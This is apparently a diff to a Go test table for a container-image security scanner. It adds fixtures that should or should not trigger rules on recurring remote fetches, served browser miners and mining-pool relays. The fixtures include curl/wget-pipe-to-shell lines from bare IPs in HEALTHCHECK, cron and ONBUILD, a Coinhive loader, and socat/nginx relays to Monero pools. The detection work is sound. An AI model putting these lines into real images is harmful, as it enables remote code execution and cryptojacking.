@@ -106,6 +106,43 @@ func everyRuleRows040() []everyRuleRow {
 			return erRun(t, "curl -sSf https://sh.rustup.example/install.sh | sh -s -- -y", dt.Text("root/.cargo/env", "export PATH=$HOME/.cargo/bin:$PATH\n"))
 		}, nil, ""},
 
+		{hierarchical.RuleRecurringFetch, R, "HEALTHCHECK fetches and runs a script", func(t *testing.T) v1.Image {
+			return erCfg(t, v1.Config{Healthcheck: &v1.HealthConfig{Test: []string{"CMD-SHELL", "wget -q -O - http://203.0.113.5/h.sh | sh"}}}, "RUN true # buildkit")
+		}, nil, ""},
+		{hierarchical.RuleRecurringFetch, R, "cron table fetches from a bare IP every minute", func(t *testing.T) v1.Image {
+			return cron(t, "* * * * * root curl -fsSL http://198.51.100.7/cr.sh | bash > /dev/null 2>&1")
+		}, nil, ""},
+		{hierarchical.RuleRecurringFetch, R, "ONBUILD trigger fetches and runs an installer", func(t *testing.T) v1.Image {
+			return erCfg(t, v1.Config{OnBuild: []string{"RUN curl -fsSL http://192.0.2.61/i.sh | sh"}}, "RUN true # buildkit")
+		}, nil, ""},
+		{hierarchical.RuleRecurringFetch, Q, "self-updating agent: cron fetches its vendor's update script by host name; HEALTHCHECK only probes", func(t *testing.T) v1.Image {
+			return erCfg(t, v1.Config{Healthcheck: &v1.HealthConfig{Test: []string{"CMD-SHELL", "curl -fsS http://127.0.0.1:8080/health || exit 1"}}}, "RUN true # buildkit",
+				dt.Text("etc/cron.d/agent-update", "17 3 * * * root curl -fsSL https://updates.example.com/agent/update.sh | sh\n"))
+		}, nil, ""},
+
+		{hierarchical.RuleServedWebMiner, R, "nginx serves a page with a Coinhive loader", func(t *testing.T) v1.Image {
+			return erCfg(t, v1.Config{Cmd: []string{"nginx", "-g", "daemon off;"}}, "RUN true # buildkit",
+				dt.Text("usr/share/nginx/html/index.html", "<html><script>var m = new CoinHive.Anonymous('SITEKEY0123456789'); m.start();</script></html>\n"))
+		}, nil, ""},
+		{hierarchical.RuleServedWebMiner, Q, "a loader in a file nobody serves; a web server serving an ordinary page", func(t *testing.T) v1.Image {
+			return erCfg(t, v1.Config{Cmd: []string{"nginx", "-g", "daemon off;"}}, "RUN true # buildkit",
+				dt.Text("usr/share/nginx/html/index.html", "<html><p>Cryptojacking scripts such as Coinhive ran in visitors' browsers.</p></html>\n"),
+				dt.Text("opt/research/samples/ch.js", "var m = new CoinHive.Anonymous('SITEKEY0123456789'); m.start();\n"))
+		}, nil, ""},
+
+		{hierarchical.RulePoolRelay, R, "socat relays a local port to a pool", func(t *testing.T) v1.Image {
+			return erCfg(t, v1.Config{Entrypoint: []string{"socat", "TCP-LISTEN:3333,fork,reuseaddr", "TCP:pool.supportxmr.com:3333"}}, "RUN true # buildkit")
+		}, nil, ""},
+		{hierarchical.RulePoolRelay, R, "nginx stream block proxies to a pool", func(t *testing.T) v1.Image {
+			return erCfg(t, v1.Config{Cmd: []string{"nginx", "-g", "daemon off;"}}, "RUN true # buildkit",
+				dt.Text("etc/nginx/conf.d/stream.conf", "stream {\n  server {\n    listen 3333;\n    proxy_pass gulf.moneroocean.stream:10128;\n  }\n}\n"))
+		}, nil, ""},
+		{hierarchical.RulePoolRelay, Q, "reverse proxy to application upstreams; a pool dashboard page", func(t *testing.T) v1.Image {
+			return erCfg(t, v1.Config{Cmd: []string{"nginx", "-g", "daemon off;"}}, "RUN true # buildkit",
+				dt.Text("etc/nginx/conf.d/app.conf", "upstream app { server 10.0.0.5:8080; }\nserver { listen 80; location / { proxy_pass http://app; } }\n"),
+				dt.Text("usr/share/nginx/html/pools.html", "<td>pool.supportxmr.com:3333</td>\n"))
+		}, nil, ""},
+
 		{hierarchical.RuleStartGraphMining, R, "cron starts a script that unpacks a miner archive", func(t *testing.T) v1.Image {
 			tgz := hierarchical.ArchiveGzip(t, hierarchical.ArchiveTar(t, hierarchical.ArchiveMember{Name: "k/agent", Body: []byte(erMinerELF(t)), Mode: 0o755}))
 			return dt.Image(t, v1.Config{},
